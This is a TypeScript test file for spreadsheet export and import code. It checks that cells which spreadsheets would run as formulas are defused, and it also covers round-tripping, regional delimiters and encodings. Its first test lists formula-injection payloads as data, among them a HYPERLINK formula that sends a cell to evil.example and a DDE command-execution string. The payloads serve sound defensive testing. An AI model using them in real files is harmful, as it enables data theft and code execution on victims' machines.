// Tables: what spreadsheets write is read, and nothing we write is ever run by one.
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { defuse, readSheet, undoDefuse, writeSheet } from './sheet.ts'

const read = (text: string | Buffer) => readSheet(Buffer.from(text as string), 100)

test('cells that a spreadsheet would run are marked as text and quoted, and come back as they were', () => {
  const dangerous = [
    '=1+1',
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\0=1',
    '＝1+1',
    "'=1",
    "''=1",
  ]
  for (const text of dangerous) {
    const sheet = writeSheet([
      ['heading', 'other'],
      [text, 'x'],
    ])
    const [, [cell] = []] = parse(sheet, { bom: true, record_delimiter: '\r\n' }) as string[][]

    assert.ok(cell?.startsWith("'"), JSON.stringify(text))
    assert.ok(sheet.includes(`"'${text.replaceAll('"', '""')}"`), 'quoted')
    assert.equal(undoDefuse(cell ?? ''), text)
  }
  for (const text of ["Mama's rice", "'tis the season", 'A-B', 'crème', '']) assert.equal(defuse(text), text)
})

test('whatever is written is read again as it was', () => {
  // Spaces around a cell mean nothing, so they are not kept.
  const cell = fc.string({ maxLength: 30, unit: 'binary' }).map((text) => text.trim())
  const rows = fc.array(fc.tuple(fc.constant('x'), cell, cell), { minLength: 1, maxLength: 8 })
  fc.assert(
    fc.property(rows, (body) => {
      const sheet = [['a', 'b', 'c'], ...body]
      assert.deepEqual(readSheet(Buffer.from(writeSheet(sheet)), 100), sheet)
    }),
    { numRuns: 100 },
  )
})

test('what Excel and others write in their countries is read', () => {
  const wanted = [
    ['name', 'price'],
    ['Crêpe', '3,50'],
  ]

  assert.deepEqual(read('name;price\r\nCrêpe;3,50\r\n'), wanted)
  assert.deepEqual(read('\u{FEFF}name;price\nCrêpe;3,50'), wanted)
  assert.deepEqual(read('sep=;\r\nname;price\r\nCrêpe;3,50\r\n'), wanted)
  assert.deepEqual(read('\u{FEFF}"sep=;"\r\nname;price\r\n"Crêpe";"3,50"\r\n\r\n'), wanted)
  assert.deepEqual(read('name\tprice\nCrêpe\t3,50\n'), wanted)
  assert.deepEqual(read('name,price\n"Crêpe","3,50"\n'), wanted)
  assert.deepEqual(readSheet(Buffer.from('\u{FEFF}name\tprice\r\nCrêpe\t3,50\r\n', 'utf16le'), 100), wanted)
  assert.deepEqual(readSheet(Buffer.from('name;price\nCr\xEApe;3,50\n', 'latin1'), 100), wanted)
})

test('rows of different lengths are read, broken quotes are not, and long tables are cut where they can be told', () => {
  assert.deepEqual(read('a,b,c\n1\n1,2,3,4\n'), [['a', 'b', 'c'], ['1'], ['1', '2', '3', '4']])
  assert.equal(read('a,b\n"1,2\n'), undefined)
  assert.equal(readSheet(Buffer.from(`a,b\n${'1,2\n'.repeat(50)}`), 10)?.length, 11)
})
